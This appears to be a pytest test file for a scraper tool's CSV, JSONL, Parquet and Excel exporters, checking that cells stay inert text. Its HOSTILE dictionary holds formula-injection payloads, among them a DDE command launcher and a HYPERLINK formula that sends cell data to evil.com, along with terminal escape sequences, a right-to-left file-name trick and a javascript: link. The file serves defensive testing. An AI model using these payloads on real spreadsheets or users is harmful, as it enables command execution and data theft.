"""What goes into a file comes out of it again, and nothing in it can hurt whoever opens it."""

import csv
import io
import json
import re
import sys
import unicodedata
from collections.abc import Mapping
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pyarrow.parquet
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from scrapersky_cli.errors import SettingsError
from scrapersky_cli.export import writers
from scrapersky_cli.export.harmless import CONTROLS
from scrapersky_cli.export.phones import grouped
from scrapersky_cli.export.tables import APART, WRITERS
from scrapersky_cli.export.writers import Style
from scrapersky_cli.export.xlsx import workbook
from scrapersky_cli.subjects.column_rows import ColumnRows

pytestmark = pytest.mark.slow

COLUMNS = {"name": str, "count": int, "share": float, "own": bool, "tags": list, "at": datetime}
AT = datetime(2026, 4, 1, 6, 30, 15, tzinfo=UTC)
HOSTILE = {
    "a command": "=cmd|' /C calc'!A0",
    "a formula": '=HYPERLINK("http://evil.com?"&A1)',
    "a formula after blanks": "  =1+1",
    "a formula after a tab": "\t=1+1",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "wide": "＝1+1",
    "an error": "#REF!",
    "another separator": "a;=1+1",
    "quotes": "He said \"=1\", then\nleft; '=2'",
    "escape": "\x1b[2J\x1b]0;owned\x07red",
    "c1": "\x9b31mred",
    "markup": "[/b] [red]x[link=http://evil.com]y",
    "nul": "a\x00b",
    "right to left": "abc\u202egpj.exe\u2066x\u2069",
    "line ends": "a\r\nb\u2028c\x85d",
    "no character": "a\ufffeb\uffff",
    "long": "x" * 40_000,
    "long formula": "=" + "1" * 40_000,
    "backslash": "C:\\temp\\",
    "words": "Müller & Söhne 北京 🦷",
}


def row(name: str | None) -> dict[str, Any]:
    return {"name": name, "count": -3, "share": -97.75, "own": True, "tags": [name, "b"] if name else None, "at": AT}


def written(format_: str, *names: str | None, style: Style | None = None) -> bytes:
    file = io.BytesIO()
    with WRITERS[format_](file, COLUMNS, style or Style()) as write:
        write([row(name) for name in names])
        write([])
    return file.getvalue()


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def is_harmless(text: str) -> bool:
    """No control character, nothing that turns the direction of text."""
    return all(unicodedata.category(char) not in ("Cc", "Cs") for char in text) and not set(text) & set("\u202e\u2066")


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("style", [Style(), Style(excel=True)], ids=["csv", "excel"])
def test_csv_is_text_and_nothing_else(name: str, style: Style) -> None:
    body = written("csv", name, "next", style=style)
    text = body.decode("utf-8-sig")
    assert is_harmless(text.replace("\r\n", "").replace("\n", ""))
    head, first, second = csv.reader(io.StringIO(text, newline=""))
    assert (head, second[0]) == (list(COLUMNS), "next")
    for cell in (first[0], first[4]):
        assert not cell.lstrip().startswith(tuple("=+-@＝＋－＠")), cell
    assert first[1:4] == ["-3", "-97.75", "true"]
    assert text.count("\n") == 3
    for separator in (";", "\t"):  # where another one is the usual, a cell must not fall apart into a formula
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not any(cell.lstrip().startswith(tuple("=@")) for cell in line), line


def test_csv_gives_words_back_as_they_are() -> None:
    body = written("csv", 'Müller, "Söhne" & Co; 北京', None, "")
    assert cells(body)[1:] == [
        ['Müller, "Söhne" & Co; 北京', "-3", "-97.75", "true", 'Müller, "Söhne" & Co; 北京; b', "2026-04-01T06:30:15Z"],
        ["", "-3", "-97.75", "true", "", "2026-04-01T06:30:15Z"],
        ["", "-3", "-97.75", "true", "", "2026-04-01T06:30:15Z"],
    ]


def test_phones_stay_phones() -> None:
    for number in ("+15125550100", "+15125550100; +15125550101", "+49 (0)30 / 90-18.21"):
        assert cells(written("csv", number))[1][0] == number
    assert cells(written("csv", "+1512555010x"))[1][0] == "'+1512555010x"
    assert cells(written("csv", "=1+1", style=Style(guard=False)))[1][0] == "=1+1"


@pytest.mark.parametrize(
    ("number", "cell"),
    [
        ("+4930901821", "+49 30 901821"),
        ("+15125550100", "+1 512 555 0100"),  # with hyphens, Excel would subtract
        ("+48221234567; +4930901821", "+48 22 123 45 67; +49 30 901821"),
        ("+48512345678", "+48 512 345678"),  # in groups of three it were thousands in Poland
        ("+49-30-90182", "+49 30 90182"),
        ("+49 (0)30/901821", "+49 (0)30 901821"),
        ("+99999999", "+99 (999999)"),  # of no country
        ("+48 5", "'+48 5"),  # too short for a number of a telephone
        ("+1512555010x", "'+1512555010x"),
    ],
)
def test_excel_takes_phones_for_text(number: str, cell: str) -> None:
    assert cells(written("csv", number, style=Style(excel=True)).removeprefix(b"\xef\xbb\xbf"))[1][0] == cell


@given(st.from_regex(r"\+[1-9][0-9]{6,14}(; \+[1-9][0-9]{6,14})?", fullmatch=True))
def test_a_phone_is_neither_a_number_nor_a_sum_in_any_country(text: str) -> None:
    said = grouped(text)
    assert re.sub(r"[ ()]", "", said) == text.replace(" ", "")
    for each in said.split("; "):
        assert not re.fullmatch(r"\+\d+|\+\d{1,3}( \d{3})+|.*[-*/^&].*", each), each


def test_excel_gets_a_byte_order_mark_and_crlf() -> None:
    body = written("csv", "a", "b", style=Style(excel=True))
    assert body.startswith(b"\xef\xbb\xbfname,")
    assert body.count(b"\r\n") == body.count(b"\n") == 3


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
def test_json_lines_give_the_value_and_control_nothing(name: str) -> None:
    body = written("jsonl", name).decode()
    assert json.loads(body) == {**row(name), "at": "2026-04-01T06:30:15Z"}
    assert body.count("\n") == 1
    assert is_harmless(body.removesuffix("\n"))


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
def test_parquet_gives_the_value(name: str) -> None:
    table = pyarrow.parquet.read_table(io.BytesIO(written("parquet", name, None)))
    assert table.to_pylist() == [row(name), row(None)]
    types = [str(type_) for type_ in table.schema.types]
    assert types == ["string", "int64", "double", "bool", "list<element: string>", "timestamp[us, tz=UTC]"]


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
def test_xlsx_is_text_and_nothing_else(name: str) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(written("xlsx", name, "next"))).worksheets[0]
    head, first, second = sheet.iter_rows()
    assert [cell.value for cell in head] == list(COLUMNS)
    assert second[0].value == "next"
    assert [cell.data_type for cell in first] == ["s", "n", "n", "b", "s", "d"]
    assert [cell.value for cell in first[1:4]] == [-3, -97.75, True]
    assert first[5].value == AT.replace(tzinfo=None)
    value = str(first[0].value)
    assert is_harmless(value)
    if len(name) > 32_767:
        assert (len(value), value[:30_000], value[-6:]) == (32_767, name[:30_000], "…[cut]")
    elif is_harmless(name) and not set(name) & set("\ufffe\uffff"):
        assert value == name


def test_a_sheet_that_is_full_is_followed_by_another(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("scrapersky_cli.export.xlsx.SHEET_ROWS", 3)
    book = openpyxl.load_workbook(io.BytesIO(written("xlsx", "a", "b", "c")))
    assert [[line[0] for line in sheet.iter_rows(values_only=True)] for sheet in book] == [
        ["name", "a", "b"],
        ["name", "c"],
    ]


@pytest.mark.parametrize("format_", WRITERS)
def test_an_export_without_rows_is_a_file_too(format_: str) -> None:
    body = written(format_)
    if format_ == "csv":
        assert cells(body) == [list(COLUMNS)]
    elif format_ == "xlsx":
        assert list(openpyxl.load_workbook(io.BytesIO(body)).worksheets[0].values) == [tuple(COLUMNS)]
    elif format_ == "parquet":
        assert pyarrow.parquet.read_table(io.BytesIO(body)).num_rows == 0
    else:
        assert body == b""


@pytest.mark.parametrize(("format_", "package"), [("xlsx", "openpyxl"), ("parquet", "pyarrow")])
def test_a_missing_package_is_named_with_its_extra(format_: str, package: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, package, None)
    with pytest.raises(SettingsError) as caught:
        written(format_)
    assert caught.value.hint == f"run: pip install 'scrapersky[{format_}]'"


def book_of(apart: list[dict[str, Any]], *rows: dict[str, Any]) -> Any:
    file = io.BytesIO()
    with workbook(file) as begin:
        usable, others = begin("leads", {"name": str, "website": str}), begin(APART, {"name": str, "because": str})
        usable(rows)
        others(apart)
    return openpyxl.load_workbook(file)


def test_a_workbook_is_ready_to_be_read() -> None:
    book = book_of([], {"name": "Müller & Söhne " * 9, "website": "https://a.com/?x=1&y='2'"}, {"name": "b"})
    (sheet,) = book.worksheets
    assert (sheet.title, sheet.freeze_panes, sheet.auto_filter.ref) == ("leads", "A2", "A1:B3")
    assert [cell.font.b for cell in sheet[1]] == [True, True]
    assert [sheet.column_dimensions[letter].width for letter in "AB"] == [50, 26]
    assert {cell.font.name for row in sheet.rows for cell in row} == {"Calibri"}
    assert (sheet["B2"].hyperlink.target, sheet["B2"].value) == ("https://a.com/?x=1&y='2'",) * 2
    assert (sheet["A2"].hyperlink, sheet["B3"].value) == (None, None)


def test_what_cannot_be_used_has_a_sheet_of_its_own() -> None:
    first, second = book_of([{"name": "c", "because": "it is closed"}], {"name": "a"}).worksheets
    assert (first.title, second.title) == ("leads", "Not usable, and why")
    assert list(second.values) == [("name", "because"), ("c", "it is closed")]
    assert (second.freeze_panes, second.auto_filter.ref, second["A1"].font.b) == ("A2", "A1:B2", True)


def test_only_web_addresses_are_links_and_not_too_many(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("scrapersky_cli.export.xlsx._LINKS", 2)
    urls = [
        "javascript:alert(1)",
        "https://a.com x",
        "file:///etc/passwd",
        "http://a.com",
        "http://b.com",
        "http://c.com",
    ]
    sheet = book_of([], *({"website": url} for url in urls)).worksheets[0]
    linked = [cell.value for (cell,) in sheet["B2":"B7"] if cell.hyperlink]
    assert linked == ["http://a.com", "http://b.com"]
    assert [cell.value for (cell,) in sheet["B2":"B7"]] == urls


_texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=50)


@given(_texts)
def test_any_text_survives_every_format(text: str) -> None:
    def as_dict(line: Mapping[str, Any]) -> Any:
        return line["name"]

    assert as_dict(json.loads(written("jsonl", text))) == text
    assert as_dict(pyarrow.parquet.read_table(io.BytesIO(written("parquet", text))).to_pylist()[0]) == text
    lines = cells(written("csv", text, "next"))
    assert (len(lines), lines[2][0]) == (3, "next")
    assert not lines[1][0].strip().startswith(("=", "@"))
    book = openpyxl.load_workbook(io.BytesIO(written("xlsx", text, "next")))
    first, second = list(book.worksheets[0].iter_rows(min_row=2))
    assert first[0].data_type in {"s", "inlineStr"} or first[0].value is None
    assert second[0].value == "next"


def by_the_rules(value: object, style: Style) -> str:
    """The cell of a value, of which every rule was asked."""
    text = "" if value is None else writers.plain(value)
    if style.guard and not isinstance(value, int | float | datetime):
        text = writers._guarded(text, excel=style.excel)
    return '"' + text.replace('"', '""') + '"' if re.search(r"[,;\"'\t\r\n]|^\s|\s$", text) else text


@given(
    st.one_of(
        _texts,
        st.sampled_from(list(HOSTILE.values())),
        st.from_regex(r"\+[0-9 ;\-]{3,20}", fullmatch=True),
        st.from_regex(r"\+[0-9]{1,3} [0-9 -]{0,12}[0-9]{2,3}", fullmatch=True),
        st.from_regex(r"\+[0-9]{1,4} [0-9]{1,5}[ -][0-9]{1,9}([ -][0-9]{1,5})?[-+]?", fullmatch=True),
    ),
    st.sampled_from(["", "plain", "a, b", "a; b", "+15125550100"]),
    st.booleans(),
    st.booleans(),
)
def test_a_text_in_a_column_is_written_by_the_rules(text: str, beside: str, excel: bool, guard: bool) -> None:
    style = Style(excel=excel, guard=guard)
    assert writers._csv_column(str, [beside, text], style) == [by_the_rules(beside, style), by_the_rules(text, style)]
    lists = [[beside, text], None, [text], []]
    assert writers._csv_column(list, lists, style) == [by_the_rules(each, style) for each in lists]


def test_most_cells_are_looked_at_together(monkeypatch: pytest.MonkeyPatch) -> None:
    dear: list[object] = []
    for rule in ("plain", "harmless", "_guarded", "_quoted"):
        monkeypatch.setattr(writers, rule, lambda *given, **more: dear.append(given))
    usual = {
        "name": "Müller Dental",
        "count": None,
        "share": None,
        "own": None,
        "tags": ["a@b.com"],
        "at": None,
    }
    with WRITERS["csv"](io.BytesIO(), COLUMNS, Style()) as write:
        write([usual] * 10)
    assert dear == []


_column_texts = st.text(st.sampled_from("ab =+-@,;\"'\n\r\t\0é\u2028＝1"), max_size=4)


_column_values = st.one_of(
    st.none(),
    st.just("plain"),
    _column_texts,
    st.lists(_column_texts, max_size=2),
    st.lists(st.none() | _column_texts, max_size=2),
    st.just({"=a": "b"}),
    st.booleans(),
    st.integers(),
    st.floats(),
    st.just(AT),
)


@example([-1, "plain", None], str, False, True)  # a number is no formula, whatever is beside it
@example([{"=a": "b"}, None, {"-": "b"}], str, False, True)
@example([0, False, 0.0, "", None, []], str, False, True)
@example([True, 1, 1.0], str, False, True)
@example([0.0, -0.0, None], str, False, True)  # equal, but not written alike
@given(st.lists(_column_values, min_size=1, max_size=4), st.sampled_from([str, list]), st.booleans(), st.booleans())
def test_a_column_is_written_by_the_rules(column: list[object], type_: type, excel: bool, guard: bool) -> None:
    style = Style(excel=excel, guard=guard)
    cells = [by_the_rules(each, style) for each in column]
    assert writers._csv_column(type_, column, style) == cells
    assert writers._csv_column(type_, column * 4, style) == cells * 4  # many cells have the same text


def test_what_a_row_does_not_have_is_empty() -> None:
    file = io.BytesIO()
    with WRITERS["csv"](file, {"a": str, "b": int}, Style()) as write:
        write([{"a": "x", "b": 1}, {"a": "y"}, {}])
        write([{"b": 2, "a": "z"}])
    assert file.getvalue() == b"a,b\nx,1\ny,\n,\nz,2\n"


@pytest.mark.parametrize("format_", WRITERS)
def test_rows_that_are_kept_by_column_are_written_as_others_are(format_: str) -> None:
    rows = [row("a"), row(None), {**row("-1"), "tags": None}]
    kept = ColumnRows({name: [each[name] for each in rows] for name in COLUMNS if name != "own"})
    bodies: list[Any] = []
    for each in (kept, [{**each, "own": None} for each in rows]):
        file = io.BytesIO()
        with WRITERS[format_](file, COLUMNS, Style()) as write:
            write(each)
        bodies.append(file.getvalue())
    if format_ == "xlsx":  # which has the time in it
        bodies = [list(openpyxl.load_workbook(io.BytesIO(body)).worksheets[0].values) for body in bodies]
    assert bodies[0] == bodies[1]


def test_one_column_is_written_too() -> None:
    file = io.BytesIO()
    with WRITERS["csv"](file, {"name": str}, Style()) as write:
        write([{"name": "one", "b": 1}, {}, {"name": "two"}])
    assert file.getvalue() == b"name\none\n\ntwo\n"


def test_what_is_printable_needs_no_replacing() -> None:
    assert not [code for code in (*CONTROLS, *writers._ESCAPED) if chr(code).isprintable()]
